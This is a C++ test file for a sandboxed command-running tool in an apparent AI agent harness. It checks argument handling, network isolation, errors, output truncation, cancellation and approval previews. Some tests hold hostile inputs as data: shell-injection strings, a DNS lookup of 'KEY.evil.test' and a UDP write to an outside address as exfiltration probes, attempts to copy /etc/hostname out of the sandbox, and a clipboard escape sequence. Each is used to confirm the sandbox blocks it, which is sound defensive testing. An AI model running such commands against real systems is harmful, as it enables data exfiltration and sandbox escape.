// SPDX-License-Identifier: Apache-2.0
// Goal: the tool's calls run, fail and are previewed as declared.
// Method: real commands over a folder of the test.
#include "tools/command/run_command.hpp"

#include <gtest/gtest.h>
#include <stdlib.h>

#include <boost/asio/io_context.hpp>
#include <filesystem>
#include <fstream>
#include <string>
#include <thread>
#include <utility>

#include "runtime/testing/run_awaitable.hpp"

namespace orchestrator::harness::tools {
namespace {

namespace fs = std::filesystem;

class RunCommandTest : public ::testing::Test {
 protected:
  RunCommandTest() {
    std::string name = "/tmp/command-test-XXXXXX";
    folder_ = ::mkdtemp(name.data());
    context_.workspace = *Workspace::open(folder_);
    context_.deadline = std::chrono::steady_clock::now() + std::chrono::seconds(25);
  }
  ~RunCommandTest() override { fs::remove_all(folder_); }

  static ToolCall call(const std::string& arguments) {
    return {.call_id = "c", .tool = "run_command", .arguments = {arguments}};
  }
  std::expected<ToolPreparation, ToolError> prepare(const std::string& arguments, BuiltInToolsConfig config = {}) {
    const auto tool = make_run_command(config);
    return runtime::testing::run_awaitable(io_, tool->prepare(call(arguments), context_));
  }
  ToolResult execute(const std::string& arguments) {
    const auto tool = make_run_command(BuiltInToolsConfig{});
    return runtime::testing::run_awaitable(io_, tool->execute(call(arguments), {}, context_));
  }
  std::string text(const std::string& arguments) {
    const ToolResult result = execute(arguments);
    const auto* part = result.parts.empty() ? nullptr : std::get_if<TextPart>(&result.parts[0]);
    return part == nullptr ? result.error->message : part->text;
  }
  std::string error(const std::string& arguments) {
    const ToolResult result = execute(arguments);
    if (!result.error) return "none";
    return std::string(name_of(result.error->code)) + (result.error->at.empty() ? "" : " " + result.error->at);
  }

  boost::asio::io_context io_;
  std::string folder_;
  ToolContext context_;
};

// M6: what a shell or an allow-list of names would take for more is one argument, and the sandbox holds regardless.
TEST_F(RunCommandTest, AnArgumentVectorRunsWithoutAShell) {
  EXPECT_EQ(text(R"json({"argv": ["echo", "a;touch b", "$IFS", "x\ntouch c", "$(touch d)", "&& touch e"]})json"),
            "exit code 0\nstdout (47 bytes):\na;touch b $IFS x\ntouch c $(touch d) && touch e\n");
  EXPECT_TRUE(fs::is_empty(folder_));
  EXPECT_EQ(error(R"({"argv": ["X=1 id"]})"), "spawn_failed ENOENT");
  const std::string outside = (fs::path(folder_).parent_path() / "orchestrator-sorted").string();
  execute(R"({"argv": ["sort", "-o", ")" + outside + R"(", "/etc/hostname"]})");
  execute(R"({"argv": ["find", "/etc/hostname", "-exec", "cp", "{}", ")" + outside + R"(", ";"]})");
  EXPECT_FALSE(fs::exists(outside));
  EXPECT_EQ(text(R"({"argv": ["echo", "$HOME; id", "`id`", "*"]})"),
            "exit code 0\nstdout (17 bytes):\n$HOME; id `id` *\n");
  EXPECT_EQ(text(R"({"command": "echo $HOME | tr / x >&2; exit 7", "shell": true})"),
            "exit code 7\nstderr (5 bytes):\nxtmp\n");
}

// M7: there is no way out but the loopback, so nothing that a command knows can leave by a name or an address.
TEST_F(RunCommandTest, NothingLeavesWithoutAGrant) {
  std::ofstream(folder_ + "/try.sh") << "getent hosts KEY.evil.test\n"
                                        "timeout 5 bash -c 'echo x >/dev/udp/192.0.2.1/53' 2>/dev/null && echo sent\n"
                                        "tail -n +3 /proc/net/dev | cut -d: -f1 | tr -d ' '\n"
                                        "tail -n +2 /proc/net/route\n";
  EXPECT_EQ(text(R"({"argv": ["sh", "try.sh"]})"), "exit code 0\nstdout (3 bytes):\nlo\n");
}

// TA6
TEST_F(RunCommandTest, WhatCannotBeStartedIsNamed) {
  std::ofstream(folder_ + "/plain") << "text";
  EXPECT_EQ(error(R"({"argv": [""]})"), "spawn_failed ENOENT");
  EXPECT_EQ(error(R"({"argv": []})"), "spawn_failed ENOENT");
  EXPECT_EQ(error(R"({"argv": ["no-such-program"]})"), "spawn_failed ENOENT");
  EXPECT_EQ(error(R"({"argv": ["/root/x"]})"), "spawn_failed ENOENT");
  EXPECT_EQ(error(R"({"argv": ["./plain"]})"), "spawn_failed EACCES");
  EXPECT_EQ(error(R"({"argv": ["/etc"]})"), "spawn_failed EACCES");
  EXPECT_EQ(error(R"({"argv": ["echo", "a\u0000b"]})"), "spawn_failed EINVAL");
  EXPECT_EQ(error(R"({"argv": ["echo", ")" + std::string(std::size_t{3} << 20, 'x') + R"("]})"), "spawn_failed E2BIG");
  EXPECT_EQ(error(R"({"command": "id"})"), "tool_args_invalid /shell");
  EXPECT_EQ(error(R"({"command": "id", "shell": true, "argv": ["id"]})"), "tool_args_invalid /argv");
}

TEST_F(RunCommandTest, TheLargestArgumentsThatAreTakenCanBeStarted) {
  std::string arguments = R"({"argv": ["true")";
  for (int i = 0; i < 7; ++i) arguments += ", \"" + std::string(131'071, 'x') + "\"";
  EXPECT_EQ(text(arguments + "]}"), "exit code 0\n");
}

// TA7
TEST_F(RunCommandTest, ATimeOutOfRangeIsRefused) {
  for (const char* value : {"0", "-1", "1e12", "600001"}) {
    EXPECT_EQ(error(R"({"argv": ["true"], "timeout_ms": )" + std::string(value) + "}"), "out_of_range /timeout_ms");
  }
  EXPECT_EQ(error(R"({"argv": ["true"], "timeout_ms": 600000})"), "none");
}

// TA8
TEST_F(RunCommandTest, LongOutputIsCutAndTheWholeIsKept) {
  const ToolResult result = execute(R"({"command": "head -c 200000 /dev/zero | tr '\\0' x; echo end", "shell": true})");
  const std::string& shown = std::get<TextPart>(result.parts[0]).text;
  EXPECT_TRUE(shown.contains("[output_truncated: 150852 bytes left out here]")) << shown.substr(0, 100);
  EXPECT_TRUE(shown.ends_with("xxend\n"));
  EXPECT_LT(shown.size(), std::size_t{64} << 10);
  ASSERT_TRUE(result.full_output.has_value());
  EXPECT_EQ(result.full_output->size_bytes(),
            200'004U + std::string("== stdout, 200004 of 200004 bytes ==\n\n").size());
}

TEST_F(RunCommandTest, BinaryOutputIsNotShown) {
  EXPECT_EQ(text(R"({"argv": ["head", "-c", "1000", "/dev/zero"]})"),
            "exit code 0\nstdout (1000 bytes):\n[binary, not shown]\n");
}

// O2
TEST_F(RunCommandTest, EscapesAreStrippedAndKeptInTheWholeOutput) {
  const ToolResult result = execute(R"({"argv": ["printf", "\\033]52;c;eA\\007\\033[31mred"]})");
  EXPECT_EQ(std::get<TextPart>(result.parts[0]).text, "exit code 0\nstdout (18 bytes):\nred\n");
  EXPECT_TRUE(result.full_output->view().contains("\x1b]52;"));
}

// TA9
TEST_F(RunCommandTest, AChildThatIsLeftRunningIsKilledAndTold) {
  const std::string shown = text(R"({"command": "while :; do :; done & echo done", "shell": true})");
  EXPECT_TRUE(shown.starts_with("exit code 0\nchild_left_running: 1 processes")) << shown;
}

// TA10
TEST_F(RunCommandTest, TheEndIsTold) {
  EXPECT_TRUE(
      text(R"({"command": "kill -SEGV $$", "shell": true})").starts_with("exit code 139 (128 + 11: ended by SIGSEGV)"));
  EXPECT_EQ(text(R"({"command": "exit 255", "shell": true})"), "exit code 255\n");
}

// TA11
TEST_F(RunCommandTest, TheFolderMustBeInTheWorkspace) {
  EXPECT_EQ(error(R"({"argv": ["true"], "cwd": "gone"})"), "cwd_missing gone");
  EXPECT_EQ(error(R"({"argv": ["true"], "cwd": "../.."})"), "path_outside_workspace ../..");
  EXPECT_EQ(error(R"({"argv": ["true"], "cwd": "a\u0000b"})"), "path_invalid cwd");
  fs::remove_all(folder_);
  EXPECT_EQ(error(R"({"argv": ["true"]})"), "cwd_missing");
}

TEST_F(RunCommandTest, ATimeoutIsAnErrorWithTheOutputSoFar) {
  const ToolResult result =
      execute(R"({"command": "echo begun; while :; do :; done", "shell": true, "timeout_ms": 200})");
  EXPECT_EQ(result.error->code, ToolErrorCode::tool_timeout);
  EXPECT_EQ(result.outcome, ToolOutcome::error);
  EXPECT_TRUE(std::get<TextPart>(result.parts[0]).text.contains("begun"));
}

TEST_F(RunCommandTest, ACommandThatIsCancelledBeforeItRunsIsCancelled) {
  std::stop_source stop;
  stop.request_stop();
  context_.cancellation = stop.get_token();
  const ToolResult result = execute(R"({"argv": ["true"]})");
  EXPECT_EQ(result.error->code, ToolErrorCode::tool_cancelled);
  EXPECT_EQ(result.outcome, ToolOutcome::cancelled) << "nothing ran";
}

TEST_F(RunCommandTest, ACommandThatIsCancelledWhileItRunsHasAnUnknownOutcome) {
  std::stop_source stop;
  context_.cancellation = stop.get_token();
  const std::jthread aborter([&](const std::stop_token& ended) {
    while (!fs::exists(folder_ + "/begun") && !ended.stop_requested()) std::this_thread::yield();
    stop.request_stop();
  });
  const ToolResult result = execute(R"({"command": "echo out; echo x > begun; while :; do :; done", "shell": true})");
  ASSERT_TRUE(result.error.has_value());
  EXPECT_EQ(result.error->code, ToolErrorCode::tool_cancelled);
  EXPECT_EQ(result.outcome, ToolOutcome::unknown);
  EXPECT_TRUE(std::get<TextPart>(result.parts[0]).text.contains("stdout (4 bytes):\nout\n"));
}

TEST_F(RunCommandTest, WithoutAWorkspaceNothingRuns) {
  context_.workspace = nullptr;
  EXPECT_EQ(error(R"({"argv": ["true"]})"), "sandbox_unavailable workspace");
}

// M9
TEST_F(RunCommandTest, ThePreviewIsTheExactCommand) {
  const auto preparation = prepare(R"({"argv": ["git", "commit", "-m", "it's\u202e\u001b[2J"], "timeout_ms": 5})");
  ASSERT_TRUE(preparation.has_value()) << preparation.error().message;
  EXPECT_EQ(preparation->preview,
            "git\ncommit\n-m\n$'it\\'s\\xe2\\x80\\xae\\x1b[2J'\nin ., without network, at most 5 ms\n");
  EXPECT_EQ(preparation->targets, (std::vector<ToolTarget>{{"/usr/bin/git", std::nullopt}}));
  EXPECT_EQ(preparation->approval, std::nullopt);
}

TEST_F(RunCommandTest, AProgramOfTheWorkspaceIsBoundByItsContent) {
  std::ofstream(folder_ + "/tool") << "#!/bin/sh\necho hi\n";
  fs::permissions(folder_ + "/tool", fs::perms::owner_all);
  const auto preparation = prepare(R"({"argv": ["./tool"]})");
  ASSERT_TRUE(preparation.has_value()) << preparation.error().message;
  EXPECT_EQ(preparation->targets, (std::vector<ToolTarget>{{folder_ + "/./tool", sha256("#!/bin/sh\necho hi\n")}}));
  EXPECT_EQ(text(R"({"argv": ["./tool"]})"), "exit code 0\nstdout (3 bytes):\nhi\n");
}

TEST_F(RunCommandTest, TheNetworkNeedsAnApprovalUnlessItIsGranted) {
  const std::string arguments = R"({"argv": ["true"], "network": true})";
  EXPECT_EQ(prepare(arguments)->approval, ApprovalNeed::require);
  EXPECT_EQ(prepare(arguments, {.command_network = true})->approval, std::nullopt);
  EXPECT_TRUE(prepare(arguments)->preview.contains("with the network"));
}

TEST_F(RunCommandTest, ReachesOutsideWithTheNetworkAndSecretsWithout) {
  EXPECT_EQ(prepare(R"({"argv": ["true"]})")->reach, ToolReach::secrets);
  EXPECT_EQ(prepare(R"({"argv": ["true"], "network": true})")->reach, std::nullopt);
  const auto tool = make_run_command(BuiltInToolsConfig{});
  EXPECT_EQ(tool->spec().reach, ToolReach::outside);
  EXPECT_FALSE(tool->spec().is_output_trusted);
}

}  // namespace
}  // namespace orchestrator::harness::tools
